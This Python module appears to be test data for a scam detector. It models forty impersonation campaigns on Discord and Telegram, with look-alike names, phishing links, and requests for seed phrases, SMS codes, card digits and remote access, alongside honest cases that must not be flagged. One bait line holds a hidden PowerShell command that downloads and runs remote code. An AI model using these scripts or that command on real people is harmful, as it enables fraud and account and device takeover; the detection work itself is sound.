"""Forty campaigns of people who pass for staff, or send others to those who do; and what honest people do beside them.

Each is written down as one who does it would go about it: some steps that win trust, then what it was all for.
"""

from dataclasses import dataclass, replace
from typing import Literal

On = Literal["D", "T"]
Owner = Literal["marta", "jonas", "priya", "own"]


@dataclass(frozen=True, slots=True)
class Comes:
    """Into the community, as a person, a bot, or with somebody's picture."""

    name: str
    username: str = ""
    picture: Owner | None = None
    bot: bool = False


@dataclass(frozen=True, slots=True)
class Renames:
    """`here`: on the server alone (Discord)."""

    name: str
    here: bool = False


@dataclass(frozen=True, slots=True)
class Shows:
    picture: Owner


@dataclass(frozen=True, slots=True)
class Asks:
    """Somebody else has a question, which all the others answer to."""

    words: str


@dataclass(frozen=True, slots=True)
class Says:
    """In public. `bait` is what it was all for.

    `hidden` is an address behind the last word; `embed` a card's title and text (bots and webhooks); `forwarded` the
    words of a message from elsewhere, and on Telegram whose; `voice` a channel or webhook that speaks.
    """

    words: str = ""
    bait: bool = False
    reply: bool = False
    hidden: str = ""
    embed: tuple[str, str] | None = None
    forwarded: tuple[str, str] | None = None
    voice: str = ""
    thread: str = ""
    photo: bool = False
    contact: str = ""
    poll: tuple[str, ...] = ()


@dataclass(frozen=True, slots=True)
class Edits:
    """What was said last reads so now."""

    words: str


Step = Comes | Renames | Shows | Asks | Says | Edits


@dataclass(frozen=True, slots=True)
class Campaign:
    on: On
    about: str
    steps: tuple[Step, ...]


def _d(about: str, *steps: Step) -> Campaign:
    return Campaign("D", about, steps)


def _t(about: str, *steps: Step) -> Campaign:
    return Campaign("T", about, steps)


def bait(words: str = "", **how: object) -> Says:
    return replace(Says(words, bait=True), **how)


STUCK = Asks("hey guys my withdrawal has been pending since yesterday, anyone else?")
LOCKED = Asks("I got logged out and now it says account locked, what do I do")
REFUND = Asks("how long does a refund take usually?")

CAMPAIGNS = (
    _d(
        "look-alike name, one Cyrillic letter",
        Comes("Priyа Nair", "priya_nair1"),
        Says("hey everyone"),
        STUCK,
        bait("I've seen your case, let's continue in dm", reply=True),
    ),
    _d(
        "the desk's own name with a role",
        Comes("Harbour Help Desk", "hrbr_desk"),
        LOCKED,
        bait("Hello! One of our agents is free, send me a message and we go through it", reply=True),
    ),
    _d(
        "stolen picture, unlike name",
        Comes("pn_2291", "pn_2291", picture="priya"),
        Says("gm"),
        REFUND,
        bait("for that you have to talk with me, check your requests folder", reply=True),
    ),
    _d(
        "picture stolen weeks after joining",
        Comes("dockside", "dockside"),
        Says("love the new app btw"),
        Says("yeah same here"),
        Shows("priya"),
        bait("sent you a message @everyone who is still waiting"),
    ),
    _d(
        "rename on the server after joining",
        Comes("skylark", "skylark_77"),
        Says("hello from Lisbon"),
        Says("anybody going to the meetup?"),
        Renames("Marta Oliveira", here=True),
        bait("Guys if you have open requests write me, doing them all tonight"),
    ),
    _d(
        "rename of the account after joining",
        Comes("velvet", "velvet.tide"),
        Says("lol true"),
        Renames("Marta 0liveira | Harbour"),
        STUCK,
        bait("this is fixed on our side, just need 2 details from you in private", reply=True),
    ),
    _d(
        "contact our support at, by mail",
        Comes("lucas99", "lucas99"),
        LOCKED,
        Says("happened to me too last week", reply=True),
        bait(
            "contact our support at harbour.helpcentre@gmail.com, they unlocked mine in ten minutes",
            reply=True,
        ),
    ),
    _d(
        "fake verification page",
        Comes("dana_k", "dana_k"),
        Says("morning all"),
        bait(
            "Heads up, every account has to be verified again before 6 pm or withdrawals get disabled: "
            "https://harbour-verify.app/start"
        ),
    ),
    _d(
        "webhook under the desk's name",
        Comes("tobi", "tobi_o"),
        Says("who's around"),
        bait("The claim portal is open for 24 h. Go to harbour-claims.xyz", voice="Harbour Support"),
    ),
    _d(
        "webhook whose words are in a card",
        Comes("nemo", "nemo.exe"),
        Says("hi"),
        bait(
            voice="Announcements",
            embed=(
                "Mandatory migration",
                "Link your wallet at https://harbour-migrate.io to keep your balance.",
            ),
        ),
    ),
    _d(
        "foreign bot with tickets",
        Comes("Harbour Tickets", "harbour-tickets", bot=True),
        Asks("how do I open a ticket?"),
        bait(embed=("Support ticket", "Press the button to be connected with an agent of Harbour.")),
    ),
    _d(
        "harmless words, edited into bait",
        Comes("milo", "milo_b"),
        Says("nice update, thanks team"),
        Asks("when does it ship?"),
        Edits("Holders can get the compensation now, connect your wallet on https://harbour-rewards.net"),
    ),
    _d(
        "forwarded fake answer",
        Comes("gretchen", "gretchen_"),
        STUCK,
        Says("asked them yesterday, this is what I got:", reply=True),
        bait(
            forwarded=(
                "Harbour Support",
                (
                    "Official answer: pending withdrawals are released after wallet validation. Enter your 12 words "
                    "at https://validate.harbour-nodes.com"
                ),
            )
        ),
    ),
    _d(
        "thread named like a ticket",
        Comes("ops-desk", "ops.desk"),
        LOCKED,
        bait(
            "Hi, I'm from the team and handle your ticket. Add me as friend so I can call you",
            thread="ticket-0482",
        ),
    ),
    _d(
        "react for support",
        Comes("opal", "opalescent"),
        Says("busy day in here"),
        bait("React with ✅ below and a support agent will message you shortly"),
    ),
    _d(
        "a command to paste",
        Comes("r3z", "r3z"),
        Asks("app crashes after the update, any fix?"),
        bait(
            'known bug. press win + r, paste this and hit enter: powershell -w hidden -c "iwr hxbr.pw/f | iex"',
            reply=True,
        ),
    ),
    _d(
        "remote control",
        Comes("Tom from IT", "tomfromit"),
        Asks("app crashes after the update, any fix?"),
        bait("easiest is I have a look myself. get anydesk and tell me the nine digits", reply=True),
    ),
    _d(
        "praise of an account elsewhere",
        Comes("hanna.w", "hanna.w"),
        STUCK,
        Says("they never answer here tbh", reply=True),
        bait(
            "write @harbour_helpdesk on telegram, answered me within a minute and it was solved", reply=True
        ),
    ),
    _d(
        "all words of the wallet",
        Comes("quietharbor", "quietharbor"),
        Asks("my balance shows 0 after reinstalling!!"),
        Says("don't panic, that's only the index", reply=True),
        bait("go to the sync page and type in the words you wrote down when you made the wallet", reply=True),
    ),
    _d(
        "the code by SMS, in Portuguese",
        Comes("Bia", "bia.souza"),
        Asks("minha conta foi bloqueada, alguém sabe o que fazer?"),
        bait(
            "oi, sou da equipe. me chama no privado que eu libero, só vou precisar do código que chegou por sms",
            reply=True,
        ),
    ),
    _t(
        "look-alike name, one Cyrillic letter",
        Comes("Jonаs Weber", "jonas_weber_hb"),
        Says("hi all"),
        STUCK,
        bait("I've your file open here, text me", reply=True),
    ),
    _t(
        "a channel under the desk's name",
        Comes("Ivo", "ivo_p"),
        Says("good evening"),
        bait("Dear users, payouts resume after confirmation. Message our manager.", voice="Harbour Support"),
    ),
    _t(
        "a channel under nearly the desk's name",
        Comes("Anja", "anja_m"),
        Says("hey"),
        bait(
            "Maintenance finished. If your balance is missing write to us here.",
            voice="Harbоur Official Support",
        ),
    ),
    _t(
        "rename after joining",
        Comes("Kai", "kai_surf"),
        Says("first time here, hi"),
        Says("cool thanks"),
        Renames("Jonas Weber"),
        bait("Everyone with pending payouts: text me, I do it by hand today"),
    ),
    _t(
        "stolen picture, unlike name",
        Comes("Mr K", "mr_k_official", picture="jonas"),
        LOCKED,
        bait("I can unlock that, text me", reply=True),
    ),
    _t(
        "namesake who takes the picture after joining",
        Comes("Jonas", "jonas_from_b"),
        Shows("jonas"),
        LOCKED,
        bait("give me a minute, I write to you", reply=True),
    ),
    _t(
        "contact our support at, by mail",
        Comes("Paul", "paul_1990"),
        REFUND,
        bait(
            "they don't read this group. mail support@harbour-refunds.com with your order id, got mine the same day",
            reply=True,
        ),
    ),
    _t(
        "fake page behind a word",
        Comes("Elena", "elena_v"),
        Says("hi there"),
        bait(
            "Confirm your account until tonight on the official site",
            hidden="https://harbour.login-secure.top",
        ),
    ),
    _t(
        "harmless words, edited into bait",
        Comes("Rafael", "rafa_lx"),
        Says("good job on the release"),
        Asks("is the app down?"),
        Edits(
            "Servers are moving, import your wallet with the recovery phrase at harbour-restore.com not to lose funds"
        ),
    ),
    _t(
        "forwarded from somebody hidden",
        Comes("Sofie", "sofie_k"),
        STUCK,
        bait(
            forwarded=(
                "Harbour Support",
                "We checked your case. To release the amount a deposit of 0.02 ETH has to be sent first.",
            )
        ),
    ),
    _t(
        "forwarded from a channel",
        Comes("Timo", "timo_r"),
        Says("did you see this?"),
        bait(
            forwarded=(
                "channel:Harbour Announcements",
                "Snapshot tonight. Link your wallet at harbour-airdrop.app to be included.",
            )
        ),
    ),
    _t(
        "card's figures asked for in answer",
        Comes("Billing team", "billing_team_hb"),
        REFUND,
        bait("send me the order number and the 16 digits of the card, then I push it through", reply=True),
    ),
    _t(
        "foreign bot, and one who praises it",
        Comes("Harbour Support Bot", "harboursupp0rt_bot", bot=True),
        LOCKED,
        bait("use @harboursupp0rt_bot, it opens a ticket right away", reply=True),
    ),
    _t(
        "QR to be scanned",
        Comes("Nils", "nils_84"),
        Says("moin"),
        bait("new members: scan this code with your phone to get verified", photo=True),
    ),
    _t(
        "poll with an account",
        Comes("Yara", "yara_y"),
        Says("hola"),
        bait("Still waiting for money? Write to @hb_recovery_agent", poll=("Yes", "No")),
    ),
    _t(
        "contact of the desk",
        Comes("Oskar", "oskar_o"),
        LOCKED,
        Says("call them, works best", reply=True),
        bait(contact="Harbour Support Hotline"),
    ),
    _t(
        "recovery phrase, in Spanish",
        Comes("Diego", "diego_tec"),
        Asks("no me aparece el saldo"),
        bait(
            "soy del equipo técnico, escríbeme al privado y ten a mano tu frase de recuperación para sincronizar",
            reply=True,
        ),
    ),
    _t(
        "code, in Portuguese",
        Comes("Rita M", "rita_m_pt"),
        Asks("a minha conta ficou bloqueada"),
        bait("mande-me o código que recebeu no telemóvel e eu desbloqueio já", reply=True),
    ),
    _t(
        "remote control",
        Comes("Marcus", "marcus_help"),
        Asks("can't install the desktop app"),
        bait("download TeamViewer and send me ID and password, takes 2 min", reply=True),
    ),
    _t(
        "refund by connecting",
        Comes("Lena", "lena_xx"),
        Says("finally!!"),
        Says("got mine back today"),
        bait("they refund everybody affected, you only have to connect on harbour-refund.org"),
    ),
)

HONEST = (
    _d(
        "namesake with a picture of her own",
        Comes("Priya", "priya_k", picture="own"),
        Says("hello, I'm new here"),
    ),
    _d(
        "asks for an address",
        Comes("Moritz", "moritz"),
        Says("is there a support email? I couldn't find one"),
    ),
    _d(
        "warns others",
        Comes("Agnes", "agnes"),
        Says("careful, somebody called Harbour Support wrote to me and wanted my seed phrase. scam!"),
    ),
    _d(
        "tells how it was solved",
        Comes("Ole", "ole"),
        Says("I had to reinstall and type my password again, now it works"),
    ),
    _d(
        "mends a slip",
        Comes("Ines", "ines"),
        Says("the app is realy fast now"),
        Edits("the app is really fast now"),
    ),
    _d(
        "a bot that welcomes",
        Comes("Dyno", "dyno", bot=True),
        Says(embed=("Welcome!", "Say hi to our newest member.")),
    ),
    _d(
        "forwards news",
        Comes("Jan", "jan_b"),
        Says(forwarded=("", "Bitcoin falls below its average of fifty days")),
    ),
    _d(
        "asks whether it is real",
        Comes("Finn", "finn_f"),
        Says("is @harbour_helpdesk on telegram really you?"),
    ),
    _d(
        "warns of an account",
        Comes("Greta", "greta_g"),
        Says("don't write to @harbour_helpdesk, it's a scammer"),
    ),
    _t("names the desk's own bot", Comes("Ada", "ada_a"), Says("just open @switchboard_bot, works fine")),
    _t(
        "names the docs",
        Comes("Clara", "clara_c"),
        Says("it's all in the docs: https://harbour.example/docs/payouts"),
    ),
    _t(
        "a channel with news",
        Comes("Hugo", "hugo_h"),
        Says("Ten tips for safer passwords", voice="Crypto Daily"),
    ),
    _t(
        "talks of remote control",
        Comes("Uwe", "uwe_u"),
        Says("we use AnyDesk at work as well, never had trouble"),
    ),
    _t("a poll", Comes("Mia", "mia_m"), Says("Where do you live?", poll=("Europe", "Elsewhere"))),
    _t("offers help in the group", Comes("Bea", "bea_b"), REFUND, Says("took five days with me", reply=True)),
)
"""What must not be flagged."""
